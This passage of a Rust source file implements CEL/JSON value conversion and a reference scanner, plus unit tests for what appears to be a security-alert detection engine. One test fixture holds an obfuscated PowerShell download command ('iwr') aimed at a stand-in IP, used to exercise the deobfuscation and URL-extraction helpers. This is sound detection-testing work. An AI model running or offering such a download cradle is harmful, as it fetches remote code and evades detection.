        Value::Float(_) => "a number",
        Value::String(_) => "a string",
        Value::Bytes(_) => "bytes",
        Value::Bool(_) => "a boolean",
        Value::Null => "null",
        _ => "a value",
    }
}

/// JSON to CEL.
pub fn from_json(j: &Json) -> Value {
    match j {
        Json::Null => Value::Null,
        Json::Bool(b) => Value::Bool(*b),
        Json::Number(n) => {
            if let Some(i) = n.as_i64() {
                Value::Int(i)
            } else if let Some(u) = n.as_u64() {
                Value::UInt(u)
            } else {
                Value::Float(n.as_f64().unwrap_or(0.0))
            }
        }
        Json::String(s) => Value::String(Arc::new(s.clone())),
        Json::Array(a) => Value::List(Arc::new(a.iter().map(from_json).collect())),
        Json::Object(o) => Value::Map(Map {
            map: Arc::new(
                o.iter()
                    .map(|(k, v)| (Key::String(Arc::new(k.clone())), from_json(v)))
                    .collect(),
            ),
        }),
    }
}

/// CEL to JSON (map keys become strings; bytes become lossy text).
pub fn to_json(v: &Value) -> Json {
    match v {
        Value::Null => Json::Null,
        Value::Bool(b) => Json::Bool(*b),
        Value::Int(i) => Json::from(*i),
        Value::UInt(u) => Json::from(*u),
        Value::Float(f) => serde_json::Number::from_f64(*f)
            .map(Json::Number)
            .unwrap_or(Json::Null),
        Value::String(s) => Json::String(s.to_string()),
        Value::Bytes(b) => Json::String(String::from_utf8_lossy(b).into_owned()),
        Value::List(l) => Json::Array(l.iter().map(to_json).collect()),
        Value::Map(m) => {
            let mut entries: Vec<(String, Json)> = m
                .map
                .iter()
                .map(|(k, v)| {
                    let k = match k {
                        Key::String(s) => s.to_string(),
                        Key::Int(i) => i.to_string(),
                        Key::Uint(u) => u.to_string(),
                        Key::Bool(b) => b.to_string(),
                    };
                    (k, to_json(v))
                })
                .collect();
            entries.sort_by(|a, b| a.0.cmp(&b.0));
            Json::Object(entries.into_iter().collect())
        }
        _ => Json::String(format!("{v:?}")),
    }
}

/// A reference to `facts.x`, `lookups.x`, `actions.x` or `vars.x` found in source text, with its
/// char offset — string literals are skipped.
#[derive(Debug, PartialEq, Eq)]
pub struct Reference {
    pub root: String,
    pub name: String,
    pub offset: usize,
}

/// Scans source for `root.name` references (roots: facts, lookups, actions, vars), skipping
/// quoted strings. Works for CEL expressions and handlebars templates alike.
pub fn scan_references(src: &str, skip_strings: bool) -> Vec<Reference> {
    let chars: Vec<char> = src.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    let ident = |c: char| c.is_ascii_alphanumeric() || c == '_';
    while i < chars.len() {
        let c = chars[i];
        if skip_strings && (c == '"' || c == '\'') {
            // skip a string literal (with backslash escapes)
            let q = c;
            i += 1;
            while i < chars.len() && chars[i] != q {
                if chars[i] == '\\' {
                    i += 1;
                }
                i += 1;
            }
            i += 1;
            continue;
        }
        if ident(c) && (i == 0 || !(ident(chars[i - 1]) || chars[i - 1] == '.')) {
            let start = i;
            while i < chars.len() && ident(chars[i]) {
                i += 1;
            }
            let word: String = chars[start..i].iter().collect();
            if matches!(word.as_str(), "facts" | "lookups" | "actions" | "vars")
                && i < chars.len()
                && chars[i] == '.'
            {
                let ns = i + 1;
                let mut j = ns;
                while j < chars.len() && ident(chars[j]) {
                    j += 1;
                }
                if j > ns {
                    out.push(Reference {
                        root: word,
                        name: chars[ns..j].iter().collect(),
                        offset: ns,
                    });
                }
                i = j;
            }
            continue;
        }
        i += 1;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_kind_of_an_expression_is_read_from_its_shape() {
        let k = |src: &str| Expr::compile(src).unwrap().kind();
        for (src, want) in [
            ("a == 'x' || regex(b, 'y')", Some(Kind::Bool)),
            ("has(alert.process)", Some(Kind::Bool)),
            ("[1, 2].exists(x, x > 1)", Some(Kind::Bool)),
            ("[1, 2].exists_one(x, x > 1)", Some(Kind::Bool)),
            ("'a' in xs", Some(Kind::Bool)),
            ("urls(a).filter(u, u != '')", Some(Kind::List)),
            ("[a].map(x, lower(x))", Some(Kind::List)),
            ("'a' + b", Some(Kind::String)),
            ("get(alert, 'a.b', '')", Some(Kind::String)),
            ("get(alert, 'a.b', [])", Some(Kind::List)),
            ("x ? lower(a) : y ? vars.m[a] : ''", Some(Kind::String)),
            ("size(a) + 1", None),
            ("x ? 'a' : false", None),
            ("facts.user", None),
            ("get(alert, 'a.b', c)", None),
        ] {
            assert_eq!(k(src), want, "{src}");
        }
    }

    fn eval(src: &str, alert: Json) -> Value {
        let e = Expr::compile(src).unwrap();
        let mut s = Scope::default();
        s.set("alert", from_json(&alert));
        e.eval(&s).unwrap()
    }

    #[test]
    fn functions_work_in_cel() {
        let a = serde_json::json!({"process": {"command_line": "cmd /c p^o^w^e^r^s^h^e^l^l iwr http://203.0.113.5/x", "name": "CMD.EXE"}});
        assert_eq!(
            eval(
                "deobfuscate(alert.process.command_line).contains('powershell')",
                a.clone()
            ),
            Value::Bool(true)
        );
        assert_eq!(
            eval("urls(alert.process.command_line)", a.clone()),
            list(vec!["http://203.0.113.5/x".into()])
        );
        // Lists of objects (PowerShell 4103's invocation details as winlogbeat ships them) give
        // their strings, so a field that is a list where a string was expected still reads.
        let p = serde_json::json!({"d": [{"type": "CommandInvocation", "value": "Get-AdfsCertificate"}, {"name": "CertificateType"}]});
        assert_eq!(
            eval(
                "flatten_strings(alert.d).size() == 3 && flatten_strings(alert.d).join(' ').contains('Get-AdfsCertificate') && flatten_strings(alert.d).join(' ').contains('CertificateType')",
                p
            ),
            Value::Bool(true)
        );
        assert_eq!(
            eval("lower(alert.process.name) == 'cmd.exe'", a.clone()),
            Value::Bool(true)
        );
        assert_eq!(
            eval("get(alert, 'process.parent.name', 'none')", a.clone()),
            s("none")
        );
        // A null field reads as missing, so string checks built on it still work.
        assert_eq!(
            eval(
                "get(alert, 'process.title', '') + '!'",
                serde_json::json!({"process": {"title": null}})
            ),
            s("!")
        );
        assert_eq!(
            eval(
                "regex(alert.process.command_line, '(?i)IWR\\\\s+http')",
                a.clone()
            ),
            Value::Bool(true)
        );
        assert_eq!(
            eval(
                "ips(alert.process.command_line).filter(i, is_public_ip(i))",
                a
            ),
            list(vec![])
        );
    }

    #[test]
    fn alert_use_keeps_what_expressions_reach() {
        let a = serde_json::json!({
            "process": {"name": "x", "pid": 4, "parent": {"name": "p"}, "args": ["a"]},
            "host": {"name": "h", "os": {"type": "linux"}},
            "event": {"code": "1"},
            "powershell": {"file": {"script_block_text": "t"}},
            "noise": {"a": 1}
        });
        let srcs = [
            "get(alert, 'process.parent.name', '') + get(alert, 'process.missing.deep', 'd')",
            "has(alert.powershell) && alert.host.os.type == 'linux'",
            "get(alert.event, 'code', '') == '1' && has(alert.nothere)",
            "size(alert.process.args) + alert.process.pid",
        ];
        let mut u = AlertUse::default();
        for s in srcs {
            Expr::compile(s).unwrap().alert_use(&mut u);
        }
        let pruned = Value::try_from(u.to_val(&a).as_ref()).unwrap();
        let want = serde_json::json!({
            "process": {"parent": {"name": "p"}, "args": ["a"], "pid": 4},
            "host": {"os": {"type": "linux"}},
            "event": {"code": "1"},
            "powershell": {"file": {"script_block_text": "t"}}
        });
        assert_eq!(to_json(&pruned), want);
        let mut full = Scope::default();
        full.set("alert", from_json(&a));
        let mut part = Scope::default();
        part.set_val("alert", u.to_val(&a));
        for s in srcs {
            let e = Expr::compile(s).unwrap();
            assert_eq!(e.eval(&full), e.eval(&part), "{s}");
        }
        // Anything else needs the whole alert.
        for s in [
            "size(alert) > 0",
            "alert['process']",
            "[1].all(alert, alert > 0)",
            "truthy(alert)",
            "get(alert, lower('X'), 1)",
        ] {
            let mut u = AlertUse::default();
            Expr::compile(s).unwrap().alert_use(&mut u);
            assert!(u.whole, "{s}");
        }
    }

    #[test]
    fn compile_errors_have_offsets() {
        let e = Expr::compile("alert.x == ").unwrap_err();
        assert!(!e.message.is_empty());
    }

    #[test]
    fn scans_references_outside_strings() {
        let r = scan_references("facts.a && 'facts.b' == lookups.c_d.x || vars.z", true);
        let names: Vec<_> = r
            .iter()
            .map(|r| format!("{}.{}@{}", r.root, r.name, r.offset))
            .collect();
        assert_eq!(names, vec!["facts.a@6", "lookups.c_d@32", "vars.z@46"]);
    }
}
